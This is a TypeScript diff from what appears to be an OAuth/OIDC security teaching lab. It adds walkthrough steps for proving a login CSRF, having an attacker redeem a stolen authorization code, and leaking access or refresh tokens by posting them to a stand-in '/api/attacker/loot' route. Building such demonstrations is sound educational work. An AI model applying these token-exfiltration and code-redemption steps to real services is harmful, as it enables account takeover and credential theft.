@@ -71,3 +71,90 @@ export const attackerCallsApi = (explanation: string): StepDefinition => ({
     return observed('api', result, typeof body.acct === 'string' ? { api_acct: body.acct } : {});
   },
 });
+
+/** A refusal kept by `observed(name, …)`, as the error it was: code, description and status. */
+export function refusalObserved(values: Record<string, string>, name: string): OAuthError {
+  const status = values[`${name}_status`];
+  const description = values[`${name}_error_description`];
+  return {
+    error: values[`${name}_error`] ?? `HTTP ${status ?? '?'}`,
+    ...(description ? { error_description: description } : {}),
+    ...(status ? { status: Number(status) } : {}),
+  };
+}
+
+/**
+ * The proof of a login CSRF: the victim's client asks userinfo whose tokens it holds (`whoami_status`,
+ * `signed_in_as`). The scenario says why the answer matters.
+ */
+export const clientAsksWhoIsSignedIn = (explanation: string): StepDefinition => ({
+  id: 'whoami',
+  title: 'Who is signed in at the client now?',
+  explanation,
+  rfc: RFC.userinfo,
+  from: 'client',
+  to: 'authorization-server',
+  channel: 'back',
+  action: ({ tokens }) => ({
+    kind: 'send',
+    via: 'browser',
+    request: {
+      method: 'GET',
+      path: '/oidc/me',
+      headers: { authorization: `Bearer ${tokens.access_token ?? ''}` },
+    },
+  }),
+  outcome: (_context, result) => {
+    const sub = (result.body as { sub?: unknown } | null)?.sub;
+    return observed('whoami', result, typeof sub === 'string' ? { signed_in_as: sub } : {});
+  },
+});
+
+/** The attacker's server redeems the code it holds at one of its routes (`redeem_status`, `redeem_error`). */
+export const attackerRedeemsCode = (step: {
+  title: string;
+  explanation: string;
+  /** The attacker's route that redeems it (the caught code, or what a malicious server received). */
+  path: string;
+}): StepDefinition => ({
+  id: 'attacker-redeem',
+  title: step.title,
+  explanation: step.explanation,
+  rfc: RFC.tokenRequest,
+  from: 'attacker',
+  to: 'authorization-server',
+  channel: 'back',
+  action: () => ({ kind: 'send', via: 'browser', request: { method: 'POST', path: step.path } }),
+  outcome: (_context, result) => observed('redeem', result),
+});
+
+/**
+ * A token leaves the client for the attacker's server (an injected script, a compromised extension): the
+ * lab posts it to the attacker's loot, which keeps it with the client it belongs to.
+ */
+export const tokenLeaks = (step: {
+  id: string;
+  title: string;
+  explanation: string;
+  rfc: { label: string; href: string };
+  kind: 'access_token' | 'refresh_token';
+  clientOf(context: WalkthroughContext): string;
+}): StepDefinition => ({
+  id: step.id,
+  title: step.title,
+  explanation: step.explanation,
+  rfc: step.rfc,
+  from: 'client',
+  to: 'attacker',
+  channel: 'back',
+  action: (context) => ({
+    kind: 'send',
+    via: 'browser',
+    request: {
+      method: 'POST',
+      path: '/api/attacker/loot',
+      form: { kind: step.kind, value: context.tokens[step.kind] ?? '', client_id: step.clientOf(context) },
+    },
+  }),
+  outcome: (_context, result) => observed(step.id, result),
+});
